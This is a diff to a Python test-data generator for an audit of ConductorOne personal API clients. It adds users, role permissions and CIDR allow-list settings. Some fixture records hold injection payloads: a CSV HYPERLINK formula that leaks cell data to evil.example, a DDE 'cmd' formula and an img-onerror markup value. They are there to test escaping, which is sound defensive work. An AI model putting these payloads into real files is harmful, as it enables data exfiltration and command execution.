@@ -8,7 +8,9 @@ all randomness comes from ``random.Random(seed)``, so (seed, size, anchor) fixes
 Curated set (``curated(anchor, seed)``): which record exercises which DESIGN.md rule, with the
 default policy (T = anchor). Owners: alice, henry, gina, ivan, judy (Basic Users, active), bob
 (Super Administrator), carol (DISABLED), dave (DELETED), erin (status ENABLED but directory
-DISABLED), frank (6 unexpired clients), and a user id that does not exist ("ghost").
+DISABLED), frank (6 unexpired clients), a user id that does not exist ("ghost"), kim (ENABLED, but
+HR employmentStatus Terminated), svc (a service user), agent (an agent user) and leo (holding the
+custom role custom:break-glass).
 
 ====  ==========================================  =====================================
 rec   display name (owner)                        rule(s) it fails
@@ -47,7 +49,22 @@ C36   <img onerror> payload (ivan)                none: markup must be escaped
 C37   =HYPERLINK(...) (judy)                      none: CSV formula must be neutralised
 C38   @SUM(...) formula (judy)                    none: CSV formula must be neutralised
 C39   unknown scoped role id (judy)               none: the id is kept and noted
+C40   HR-terminated owner (kim)                   inactive-owner (employmentStatus Terminated)
+C41   service user key (svc)                      none (owner type USER_TYPE_SERVICE)
+C42   agent user key (agent)                      none (owner type USER_TYPE_AGENT)
+C43   break-glass owner, full (leo)               full-owner-access, privileged-access
+C44   admin full, tenant allow list only (bob)    full-owner-access, privileged-access
+C45   admin scoped to viewer, no CIDR (bob)       manual: no-/broad-source-restriction
 ====  ==========================================  =====================================
+
+Tenant session settings: ``pccUserSource`` switched off (its list ignored), ``pccAdminSource``
+enforced with two narrow networks. C44 has no list of its own but holds Super Administrator's
+permissions, so the admin list restricts it (no-source-restriction passes). C45 holds only
+Read-Only Administrator's permissions (its owner is a Super Administrator): whether the admin
+list applies is not certain, so both network rules are ``manual``. C43's owner holds only the
+custom role ``custom:break-glass``, whose permissions are all of Super Administrator's: the key
+holds Super Administrator although no role id says so. C22 (bob, scoped to Read-Only
+Administrator) holds Read-Only Administrator's permissions, not Super Administrator's.
 
 Fractional digits rotate 0, 3, 6, 9 over the records (record index modulo 4); C02 uses 9.
 """
@@ -76,6 +93,125 @@ BUILTIN_ROLES: tuple[tuple[str, str, bool], ...] = (
     ("system:api-logs-viewer", "Read-Only to System Logs", True),
 )
 CUSTOM_ROLES = ("custom:reports", "custom:helpdesk", "custom:auditors", "custom:onboarding")
+BREAK_GLASS = "custom:break-glass"
+"""A custom role holding every permission Super Administrator holds (not its id): owners of it
+have Super Administrator power although no role-id check would say so. Its id comes from its own
+random stream, so adding it left every other generated record as it was."""
+
+# Role.permissions (openapi.yaml components.schemas.c1.api.iam.v1.Role): the real strings are not
+# public beyond c1i's "permission/c1.api.auth.v1.Auth.Introspect" (conductorone.md §1.4), which
+# is "permission/" + the operationId. These are built the same way from operationIds in the spec
+# (tests/providers/conductorone/test_openapi.py checks each one), grouped by what they touch.
+_PERSONAL = [
+    f"c1.api.iam.v1.PersonalClientService.{m}"
+    for m in ("Create", "Delete", "Get", "List", "Update")
+]
+_APPS_READ = [
+    "c1.api.app.v1.Apps.Get",
+    "c1.api.app.v1.Apps.List",
+    "c1.api.app.v1.AppEntitlements.Get",
+    "c1.api.app.v1.AppEntitlements.List",
+    "c1.api.app.v1.AppEntitlements.ListUsers",
+]
+_APPS_WRITE = [
+    "c1.api.app.v1.Apps.Create",
+    "c1.api.app.v1.Apps.Update",
+    "c1.api.app.v1.Apps.Delete",
+    "c1.api.app.v1.AppEntitlements.Create",
+    "c1.api.app.v1.AppEntitlements.Update",
+    "c1.api.app.v1.AppEntitlements.Delete",
+]
+_REVIEW_READ = [
+    "c1.api.accessreview.v1.AccessReviewService.Get",
+    "c1.api.accessreview.v1.AccessReviewService.List",
+    "c1.api.accessreview.v1.AccessReviewReportService.List",
+]
+_REVIEW_WRITE = [
+    "c1.api.accessreview.v1.AccessReviewService.Create",
+    "c1.api.accessreview.v1.AccessReviewService.Update",
+    "c1.api.accessreview.v1.AccessReviewService.Delete",
+    "c1.api.accessreview.v1.AccessReviewActionsService.GenerateReport",
+]
+_LOGS = [
+    "c1.api.systemlog.v1.SystemLogService.ListEvents",
+    "c1.api.systemlog.v1.ExportService.List",
+    "c1.api.systemlog.v1.ExportService.Get",
+]
+_ADMIN_READ = [
+    "c1.api.iam.v1.PersonalClientSearchService.Search",
+    "c1.api.iam.v1.Roles.Get",
+    "c1.api.iam.v1.Roles.List",
+    "c1.api.user.v1.UserService.List",
+    "c1.api.user.v1.UserSearch.Search",
+    "c1.api.settings.v1.SessionSettingsService.Get",
+    "c1.api.policy.v1.Policies.Get",
+    "c1.api.policy.v1.Policies.List",
+    "c1.api.task.v1.TaskService.Get",
+]
+_ADMIN_WRITE = [
+    "c1.api.iam.v1.Roles.Update",
+    "c1.api.settings.v1.SessionSettingsService.Update",
+    "c1.api.policy.v1.Policies.Create",
+    "c1.api.policy.v1.Policies.Update",
+    "c1.api.policy.v1.Policies.Delete",
+    "c1.api.systemlog.v1.ExportService.Create",
+    "c1.api.task.v1.TaskService.CreateRevokeTask",
+    "c1.api.task.v1.TaskActionsService.Approve",
+    "c1.api.task.v1.TaskActionsService.Deny",
+]
+_BASE = ["c1.api.auth.v1.Auth.Introspect", "c1.api.user.v1.UserService.Get"]
+_OWN_TASKS = [
+    "c1.api.task.v1.TaskService.CreateGrantTask",
+    "c1.api.requestcatalog.v1.RequestCatalogSearchService.SearchEntitlements",
+]
+_READS = [
+    *_BASE,
+    *_APPS_READ,
+    *_REVIEW_READ,
+    *_LOGS,
+    *_ADMIN_READ,
+    "c1.api.iam.v1.PersonalClientService.Get",
+    "c1.api.iam.v1.PersonalClientService.List",
+]
+_ALL = [
+    *_BASE,
+    *_PERSONAL,
+    *_OWN_TASKS,
+    *_APPS_READ,
+    *_APPS_WRITE,
+    *_REVIEW_READ,
+    *_REVIEW_WRITE,
+    *_LOGS,
+    *_ADMIN_READ,
+    *_ADMIN_WRITE,
+]
+ROLE_PERMISSIONS: dict[str, list[str]] = {
+    "system:owner": _ALL,
+    "system:viewer": _READS,  # every read, no write: Super Administrator ⊇ Read-Only Administrator
+    "system:user": [*_BASE, *_PERSONAL, *_OWN_TASKS, "c1.api.app.v1.Apps.List"],
+    "system:application-admin": [*_BASE, *_APPS_READ, *_APPS_WRITE],
+    "system:campaign-admin": [*_BASE, *_REVIEW_READ, *_REVIEW_WRITE, *_APPS_READ],
+    "system:api-logs-viewer": ["c1.api.auth.v1.Auth.Introspect", *_LOGS],
+    "custom:reports": [*_BASE, *_REVIEW_READ, "c1.api.app.v1.Apps.List"],
+    # intersects Basic User and Application Administrator without containing either
+    "custom:helpdesk": [
+        *_BASE,
+        "c1.api.iam.v1.PersonalClientService.Get",
+        "c1.api.app.v1.Apps.Get",
+        "c1.api.user.v1.UserSearch.Search",
+        "c1.api.task.v1.TaskActionsService.Approve",
+    ],
+    "custom:auditors": [
+        *_READS,
+        "c1.api.accessreview.v1.AccessReviewActionsService.GenerateReport",
+    ],
+    "custom:onboarding": [
+        *_BASE,
+        "c1.api.task.v1.TaskService.CreateGrantTask",
+        "c1.api.app.v1.AppEntitlements.Update",
+    ],
+    BREAK_GLASS: list(reversed(_ALL)),
+}
 
 
 @dataclass
@@ -90,6 +226,13 @@ class Dataset:
     limited_user_id: str
     admin_user_id: str
     malformed: set[int] = field(default_factory=set)  # indexes into clients
+    session_settings: JSON = field(default_factory=dict)
+    """``SessionSettings`` (openapi.yaml components.schemas.c1.api.settings.v1.SessionSettings)."""
+
+
+def allow_list(enabled: bool, cidrs: list[str] | None) -> JSON:
+    """A ``CIDRRestriction``; protojson leaves out ``enabled: false`` and an empty list."""
+    return {k: v for k, v in {"enabled": enabled, "sourceCidr": cidrs}.items() if v}
 
 
 def ksuid(rng: random.Random) -> str:
@@ -112,7 +255,7 @@ def _role(rng: random.Random, anchor: datetime, name: str, display: str, api_onl
         "id": ksuid(rng),
         "name": name,
         "displayName": display,
-        "permissions": [],
+        "permissions": [f"permission/{op}" for op in ROLE_PERMISSIONS[name]],
         "serviceRoles": [f"role/c1.api.{name.replace(':', '.')}"],
         "systemBuiltin": builtin,
         "systemApiOnly": api_only,
@@ -125,6 +268,8 @@ def _role(rng: random.Random, anchor: datetime, name: str, display: str, api_onl
 def make_roles(rng: random.Random, anchor: datetime) -> tuple[list[JSON], dict[str, str]]:
     roles = [_role(rng, anchor, n, d, api) for n, d, api in BUILTIN_ROLES]
     roles += [_role(rng, anchor, n, n.split(":")[1].title(), False) for n in CUSTOM_ROLES]
+    own = random.Random(f"c1-role-{BREAK_GLASS}")  # noqa: S311 - simulation, not security
+    roles.append(_role(own, anchor, BREAK_GLASS, "Break Glass", False))
     return roles, {r["name"]: r["id"] for r in roles}
 
 
@@ -137,6 +282,7 @@ def make_user(
     status: str = "ENABLED",
     directory_status: str = "ENABLED",
     user_type: str = "USER_TYPE_HUMAN",
+    employment: str | None = "Active",
 ) -> JSON:
     """A ``User`` (SPEC:L42061) with the fields an audit reads, the rest omitted."""
     login = name.lower().replace(" ", ".")
@@ -154,6 +300,8 @@ def make_user(
         "createdAt": fmt(anchor - 800 * DAY, 3),
         "updatedAt": fmt(anchor - 20 * DAY, 3),
         "deletedAt": fmt(anchor - 10 * DAY, 0) if status == "DELETED" else None,
+        # a free string from the HR source (User.employmentStatus); absent for local users
+        **({"employmentStatus": employment} if employment else {}),
     }
 
 
@@ -218,7 +366,20 @@ def curated(anchor: datetime, seed: int = 0, host: str = "acme.conductor.one") -
         for k, (n, r, s, d) in people.items()
     }
     users[ids["auditor"]]["type"] = "USER_TYPE_SERVICE"
+    del users[ids["henry"]]["employmentStatus"]  # a local user: no HR record
     ids["ghost"] = ksuid(rng)  # never added to users: the API does not know this owner
+    # Added later, after every id above was drawn, so those stayed as they were.
+    more = {
+        "kim": ("Kim Leaver", basic, "USER_TYPE_HUMAN", "Terminated"),  # HR: left; C1: ENABLED
+        "svc": ("Deploy Bot", basic, "USER_TYPE_SERVICE", None),
+        "agent": ("Triage Agent", [rid["custom:helpdesk"]], "USER_TYPE_AGENT", None),
+        "leo": ("Leo Breakglass", [rid[BREAK_GLASS]], "USER_TYPE_HUMAN", "Active"),
+    }
+    for key, (name, role_list, kind, employment) in more.items():
+        ids[key] = ksuid(rng)
+        users[ids[key]] = make_user(
+            ids[key], name, anchor, list(role_list), user_type=kind, employment=employment
+        )
     clean: JSON = {
         "created": t - 60 * DAY,
         "last_used": t - DAY,
@@ -274,6 +435,12 @@ def curated(anchor: datetime, seed: int = 0, host: str = "acme.conductor.one") -
         ('=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', "judy", {}),
         ("@SUM(1+1)*cmd|' /C calc'!A0", "judy", {}),
         ("unknown scoped role id", "judy", {"scoped": [basic[0], "UnknownRoleIdNotInCatalog00"]}),
+        ("HR-terminated owner", "kim", {}),
+        ("service user key", "svc", {}),
+        ("agent user key", "agent", {"scoped": [rid["custom:helpdesk"]]}),
+        ("break-glass owner, full", "leo", {"scoped": []}),
+        ("admin full, tenant allow list only", "bob", {"scoped": [], "cidrs": ABSENT}),
+        ("admin scoped to viewer, no CIDR", "bob", {"scoped": viewer, "cidrs": None}),
     ]
     clients = []
     for index, (name, who, overrides) in enumerate(specs):
@@ -288,7 +455,16 @@ def curated(anchor: datetime, seed: int = 0, host: str = "acme.conductor.one") -
         clients.append(
             make_client(cid, host, name, ids[who], digits=digits, nanos=123 + index, **fields)
         )
-    return Dataset(host, roles, users, clients, rid, ids["alice"], ids["auditor"])
+    settings = {
+        # a list that is switched off is ignored, whatever it holds ("opt-in", global-settings.mdx)
+        "pccUserSource": allow_list(False, ["10.0.0.0/8"]),
+        "pccAdminSource": allow_list(True, ["203.0.113.0/24", "2001:db8:ad::/48"]),
+        "ssoUserSource": None,
+        "maxSessionLength": "72000s",
+    }
+    return Dataset(
+        host, roles, users, clients, rid, ids["alice"], ids["auditor"], session_settings=settings
+    )
 
 
 ADJECTIVES = [
